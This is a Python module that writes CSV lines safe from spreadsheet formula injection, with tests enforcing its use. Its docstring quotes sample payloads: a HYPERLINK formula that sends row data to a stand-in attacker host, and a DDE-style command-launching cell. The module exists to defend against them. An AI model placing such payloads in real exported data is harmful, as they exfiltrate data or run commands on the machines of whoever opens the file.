"""CSV lines whose cells a spreadsheet reads as text, never as a formula: the only CSV writer.

Exports carry values that SCIM clients and directories chose (a user's display name, a department,
an error text). A spreadsheet that opens the file evaluates a cell starting with `=`, `+`, `-`
or `@` as a formula (and some also after a leading tab or carriage return), so a display name
`=HYPERLINK("https://evil.example/?"&A1,"open")` would become a live link carrying the row's data.
`neutralise` applies OWASP's rule (CSV injection): such a text cell gets a leading single quote,
which spreadsheets show as text and keep out of evaluation.

Numbers: a value that is an `int` or a `float` in Python (ids, statuses, durations, counts the
services compute themselves) is written as the number it is, so `-5` stays a number a sheet can
sum. A *text* that looks like a number (`"-5"`, `"+1"`) is quoted like any other text: the writer
cannot tell a negative number typed in a directory from `-1+2` or `+cmd|' /C calc'!A0`, and a
quote in front of a number a directory sent is a cost a reader can see and undo; a formula is not.

Every CSV file enlist writes goes through `csv_line` (tests/security/test_csv_cells.py fails when
a module of `src/` builds a `csv.writer` of its own).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable

__all__ = ["FORMULA_STARTS", "csv_line", "neutralise"]

# OWASP's list: what makes Excel, LibreOffice Calc and Google Sheets start a formula (tab and
# carriage return because some of them skip them before looking at the next character).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: object) -> str | int | float:
    """The cell to write for `value`: None is empty, an int or float (not bool) stays a number,
    anything else is its text, with a leading `'` when it starts with a formula character."""
    if value is None:
        return ""
    if isinstance(value, int | float) and not isinstance(value, bool):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def csv_line(values: Iterable[object]) -> str:
    """One CSV record (RFC 4180 quoting, `\\n` line end) of `values`, each through `neutralise`;
    a cell holding a CR or LF is always quoted, so no value can end the record early."""
    buffer = io.StringIO()
    # The writer quotes a cell holding a character of its line terminator: with "\r\n" a lone
    # CR inside a cell is quoted too (with "\n" it was not, and a reader split the record there,
    # starting a new row, and a formula, after it). The record then ends in "\n" as before.
    csv.writer(buffer, lineterminator="\r\n").writerow([neutralise(v) for v in values])
    return buffer.getvalue().removesuffix("\r\n") + "\n"
